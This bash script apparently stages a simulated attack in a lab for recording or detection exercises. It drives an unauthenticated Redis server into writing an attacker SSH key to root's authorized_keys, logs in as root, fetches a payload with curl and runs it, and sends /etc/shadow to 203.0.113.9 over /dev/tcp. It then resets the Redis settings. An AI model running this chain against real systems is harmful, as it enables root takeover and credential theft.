# shellcheck shell=bash disable=SC2034
HOST=cache17
FORMAT=RAW
UNSET=1
ROOT=1

login() { outside ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -b "$1" -i "$work/$2.key" "$3@10.88.0.10" "$4"; }

# says ADDRESS COMMAND...: a peer's commands to redis, over one connection.
says() { { printf '%s\r\n' "${@:2}"; sleep 0.5; } | outside socat - "TCP:10.88.0.10:6379,bind=$1" >>"$work/said"; }

visits() {
    while :; do
        says 192.0.2.7 "GET price"
        sleep 1
    done
}

scenario() {
    local name key
    mkdir -p /srv/redis /run/sshd "$work/theirs"
    mount -t tmpfs -o mode=700 recorded /root
    mkdir -m 700 /root/.ssh
    account ops 4051
    touch /srv/home/ops/.hushlogin /root/.hushlogin
    cp "$folder/app.py" /srv/app.py
    ssh-keygen -q -t ed25519 -N "" -f /srv/host.key
    for name in ops theirs; do ssh-keygen -q -t ed25519 -N "" -C "$name" -f "$work/$name.key"; done
    install -m 600 -o ops "$work/ops.key.pub" /srv/home/ops/.ssh/authorized_keys
    printf '%s\n' "HostKey /srv/host.key" "PidFile none" "UsePAM yes" "PasswordAuthentication no" "PrintMotd no" >/srv/sshd_config
    printf '%s\n' 'cp /etc/shadow /root/.s' 'exec 3<>/dev/tcp/203.0.113.9/8443' 'cat /root/.s >&3' >"$work/theirs/r"
    theirs
    inside /usr/sbin/sshd -D -f /srv/sshd_config >/dev/null 2>&1 &
    inside /usr/bin/redis-server --bind 0.0.0.0 --protected-mode no --enable-protected-configs yes --dir /srv/redis >/dev/null 2>&1 &
    sleep 1
    inside setpriv --reuid 4051 --regid 4051 --clear-groups /usr/bin/python3 -S -B /srv/app.py 127.0.0.1 >/dev/null 2>&1 &
    visits &
    local visits=$!
    says 192.0.2.7 "SET price 40"
    login 10.88.0.55 ops ops "redis-cli dbsize"
    sleep 2
    key=$(cat "$work/theirs.key.pub")
    says 198.51.100.23 INFO "CONFIG GET dir"
    sleep 1
    says 198.51.100.23 "CONFIG SET rdbcompression no" "SET k \"\\n\\n$key\\n\\n\"" "CONFIG SET dir /root/.ssh" "CONFIG SET dbfilename authorized_keys" SAVE
    sleep 3
    login 10.88.0.55 ops ops "redis-cli ping"
    sleep 4
    login 198.51.100.23 theirs root "curl -s -o /root/.r http://203.0.113.9:443/r"
    sleep 1
    login 10.88.0.55 ops ops uptime
    login 198.51.100.23 theirs root "bash /root/.r"
    sleep 1
    says 198.51.100.23 "CONFIG SET dir /srv/redis" "CONFIG SET dbfilename dump.rdb" "DEL k"
    login 10.88.0.55 ops ops "ls /srv"
    sleep 1
    kill "$visits"
    cat "$work/said" >&2
}
